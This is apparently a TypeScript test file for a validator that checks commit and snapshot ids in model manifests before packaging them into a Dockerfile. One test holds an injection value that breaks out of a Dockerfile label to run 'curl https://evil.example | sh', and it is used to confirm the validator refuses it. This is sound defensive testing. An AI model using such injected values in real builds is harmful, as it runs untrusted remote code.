import { describe, expect, test } from "bun:test";
import { ModelManifest } from "../../shared/model/manifest.ts";
import { sampleManifest } from "../../shared/model/testing/sample-manifest.ts";
import { CommandError } from "../cli/exit-codes.ts";
import { assertPackageableManifest, packageInputProblems } from "./assert-packageable-manifest.ts";

/** The sample manifest, valid by the manifest schema (which takes any commit and snapshot id), with these two. */
const manifest = (commit: string, snapshotId: string): ModelManifest =>
  ModelManifest.parse({
    ...sampleManifest,
    version: "als-7",
    code: { commit, dirty: false },
    snapshot: { ...sampleManifest.snapshot, id: snapshotId },
  });
const FULL_SHA1 = "53e4c00a1b2c3d4e5f60718293a4b5c6d7e8f901";

describe("packageInputProblems()", () => {
  test("packageInputProblems() accepts full and abbreviated commits, an unknown one, and the trainer's snapshot ids", () => {
    for (const commit of [FULL_SHA1, FULL_SHA1.repeat(2).slice(0, 64), "0123abc", "unknown"]) {
      expect({ commit, problems: packageInputProblems(manifest(commit, "snap-0f1e2d3c4b5a69788796")) }).toEqual({ commit, problems: [] });
    }
  });

  test("packageInputProblems() refuses a commit that would end the Dockerfile's label and add an instruction", () => {
    expect(packageInputProblems(manifest('abc1234"\nRUN curl https://evil.example | sh\n#', "snap-1"))).toEqual([
      'code.commit "abc1234\\"\\nRUN curl https://evil.example | sh\\n#" must be a git commit in lowercase hex (7 to 64 digits) or "unknown"',
    ]);
  });

  test("packageInputProblems() refuses commits that are short, too long, uppercase or not hex", () => {
    for (const commit of ["0123ab", FULL_SHA1.repeat(2).slice(0, 65), FULL_SHA1.toUpperCase(), "g123abc", "", "Unknown"]) {
      expect({ commit, problems: packageInputProblems(manifest(commit, "snap-1")).length }).toEqual({ commit, problems: 1 });
    }
  });

  test("packageInputProblems() refuses snapshot ids outside [a-z0-9-], cutting a long one in its message", () => {
    for (const id of ["snap 1", "Snap-1", "snap_1", "snap/1", "snap-1\n", "a".repeat(129)]) {
      expect({ id, problems: packageInputProblems(manifest(FULL_SHA1, id)).length }).toEqual({ id, problems: 1 });
    }
    expect(packageInputProblems(manifest(FULL_SHA1, "x".repeat(200)))).toEqual([
      `snapshot.id "${"x".repeat(80)}…" must be 1 to 128 lowercase letters, digits or '-'`,
    ]);
  });
});

describe("assertPackageableManifest()", () => {
  test("assertPackageableManifest() refuses with exit outcome `refused`, naming the model and every problem", () => {
    let thrown: unknown;
    try {
      assertPackageableManifest(manifest("nothex!", "snap 1"));
    } catch (error) {
      thrown = error;
    }
    expect(thrown).toBeInstanceOf(CommandError);
    expect({ outcome: (thrown as CommandError).outcome, message: (thrown as CommandError).message }).toEqual({
      outcome: "refused",
      message: 'the manifest of als-7 cannot be packaged: code.commit "nothex!" must be a git commit in lowercase hex (7 to 64 digits) or "unknown"; ' +
        `snapshot.id "snap 1" must be 1 to 128 lowercase letters, digits or '-'`,
    });
  });

  test("assertPackageableManifest() lets a valid manifest through", () => {
    expect(() => assertPackageableManifest(manifest(FULL_SHA1, "snap-0f1e2d3c4b5a69788796"))).not.toThrow();
  });
});
